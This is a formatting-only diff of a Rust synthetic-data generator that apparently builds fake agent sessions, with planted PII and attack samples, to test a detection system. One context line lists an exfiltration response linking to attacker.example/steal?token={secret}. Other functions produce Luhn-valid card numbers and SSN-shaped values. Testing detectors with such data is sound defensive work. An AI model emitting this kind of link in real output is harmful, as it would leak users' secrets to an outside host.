@@ -45,9 +45,7 @@ impl Rng {
     }
 
     fn digits(&mut self, n: usize) -> String {
-        (0..n)
-            .map(|_| char::from(b'0' + self.below(10) as u8))
-            .collect()
+        (0..n).map(|_| char::from(b'0' + self.below(10) as u8)).collect()
     }
 }
 
@@ -108,12 +106,7 @@ pub struct GenerateConfig {
 
 impl Default for GenerateConfig {
     fn default() -> Self {
-        Self {
-            seed: 42,
-            sessions: 200,
-            attack_percent: 10,
-            pii_percent: 15,
-        }
+        Self { seed: 42, sessions: 200, attack_percent: 10, pii_percent: 15 }
     }
 }
 
@@ -230,18 +223,11 @@ const EXFIL_RESPONSES: &[&str] = &[
     "Report ready. [click here](https://attacker.example/steal?token={secret})",
 ];
 
-const FIRST: &[&str] = &[
-    "jane", "omar", "li", "maria", "kwame", "sofia", "raj", "emma", "lucas", "yuki",
-];
-const LAST: &[&str] = &[
-    "doe", "haddad", "wang", "garcia", "mensah", "rossi", "patel", "smith", "silva", "tanaka",
-];
-const DOMAINS: &[&str] = &[
-    "example.com",
-    "mail.example.org",
-    "corp.example.net",
-    "example.co.uk",
-];
+const FIRST: &[&str] =
+    &["jane", "omar", "li", "maria", "kwame", "sofia", "raj", "emma", "lucas", "yuki"];
+const LAST: &[&str] =
+    &["doe", "haddad", "wang", "garcia", "mensah", "rossi", "patel", "smith", "silva", "tanaka"];
+const DOMAINS: &[&str] = &["example.com", "mail.example.org", "corp.example.net", "example.co.uk"];
 
 impl Generator {
     fn generate(&mut self) -> Generated {
@@ -304,11 +290,8 @@ impl Generator {
                 planted = values;
             }
         }
-        let tool_calls = if rng.chance(15) {
-            vec![tool_call(rng, &mut planted)]
-        } else {
-            Vec::new()
-        };
+        let tool_calls =
+            if rng.chance(15) { vec![tool_call(rng, &mut planted)] } else { Vec::new() };
         let agent = session % 8;
         let interaction = InteractionEvent {
             event_id: event_id.clone(),
@@ -349,15 +332,7 @@ impl Generator {
             memory_mb: Some(256.0 + rng.below(1024) as f64),
             metadata: Map::new(),
         };
-        Generated {
-            interaction,
-            telemetry,
-            truth: Truth {
-                event_id,
-                family,
-                pii: planted,
-            },
-        }
+        Generated { interaction, telemetry, truth: Truth { event_id, family, pii: planted } }
     }
 }
 
@@ -433,20 +408,13 @@ fn ssn(rng: &mut Rng) -> String {
             break a;
         }
     };
-    format!(
-        "{area:03}-{:02}-{:04}",
-        1 + rng.below(99),
-        1 + rng.below(9999)
-    )
+    format!("{area:03}-{:02}-{:04}", 1 + rng.below(99), 1 + rng.below(9999))
 }
 
 /// A Luhn-valid Visa or Mastercard number, grouped by four.
 pub fn card(rng: &mut Rng) -> String {
-    let mut digits: Vec<u8> = if rng.chance(50) {
-        vec![4]
-    } else {
-        vec![5, 1 + rng.below(5) as u8]
-    };
+    let mut digits: Vec<u8> =
+        if rng.chance(50) { vec![4] } else { vec![5, 1 + rng.below(5) as u8] };
     while digits.len() < 15 {
         digits.push(rng.below(10) as u8);
     }
@@ -456,11 +424,7 @@ pub fn card(rng: &mut Rng) -> String {
         .enumerate()
         .map(|(i, &d)| {
             let v = u32::from(d);
-            if i % 2 == 0 {
-                if v * 2 > 9 { v * 2 - 9 } else { v * 2 }
-            } else {
-                v
-            }
+            if i % 2 == 0 { if v * 2 > 9 { v * 2 - 9 } else { v * 2 } } else { v }
         })
         .sum();
     digits.push(((10 - sum % 10) % 10) as u8);
@@ -472,22 +436,13 @@ pub fn card(rng: &mut Rng) -> String {
 }
 
 fn ipv4(rng: &mut Rng) -> String {
-    format!(
-        "{}.{}.{}.{}",
-        10 + rng.below(200),
-        rng.below(256),
-        rng.below(256),
-        1 + rng.below(254)
-    )
+    format!("{}.{}.{}.{}", 10 + rng.below(200), rng.below(256), rng.below(256), 1 + rng.below(254))
 }
 
 fn pii_sentence(rng: &mut Rng) -> (String, Vec<Planted>) {
     let mut planted = Vec::new();
     let mut plant = |entity: &'static str, value: String| {
-        planted.push(Planted {
-            entity,
-            value: value.clone(),
-        });
+        planted.push(Planted { entity, value: value.clone() });
         value
     };
     let text = match rng.below(6) {
@@ -497,10 +452,7 @@ fn pii_sentence(rng: &mut Rng) -> (String, Vec<Planted>) {
             plant("phone", phone(rng))
         ),
         1 => format!("For the tax form, my SSN is {}.", plant("us_ssn", ssn(rng))),
-        2 => format!(
-            "Please charge my card {} for the renewal.",
-            plant("credit_card", card(rng))
-        ),
+        2 => format!("Please charge my card {} for the renewal.", plant("credit_card", card(rng))),
         3 => format!(
             "The login came from IP {} yesterday, is that suspicious?",
             plant("ip_address", ipv4(rng))
@@ -529,10 +481,7 @@ fn tool_call(rng: &mut Rng, planted: &mut Vec<Planted>) -> ToolCall {
         },
         1 => {
             let address = email(rng);
-            planted.push(Planted {
-                entity: "email",
-                value: address.clone(),
-            });
+            planted.push(Planted { entity: "email", value: address.clone() });
             ToolCall {
                 name: "send_email".into(),
                 arguments: Value::String(
@@ -554,13 +503,10 @@ mod tests {
     use super::*;
 
     fn lines(seed: u64, n: usize) -> Vec<String> {
-        Generator::new(GenerateConfig {
-            seed,
-            ..GenerateConfig::default()
-        })
-        .take(n)
-        .map(|g| serde_json::to_string(&g.interaction).unwrap())
-        .collect()
+        Generator::new(GenerateConfig { seed, ..GenerateConfig::default() })
+            .take(n)
+            .map(|g| serde_json::to_string(&g.interaction).unwrap())
+            .collect()
     }
 
     #[test]
@@ -590,11 +536,8 @@ mod tests {
     fn planted_cards_pass_luhn() {
         let mut rng = Rng::new(1);
         for _ in 0..100 {
-            let digits: Vec<u8> = card(&mut rng)
-                .bytes()
-                .filter(u8::is_ascii_digit)
-                .map(|b| b - b'0')
-                .collect();
+            let digits: Vec<u8> =
+                card(&mut rng).bytes().filter(u8::is_ascii_digit).map(|b| b - b'0').collect();
             assert!(crate::pii::recognizers::luhn(&digits));
         }
     }
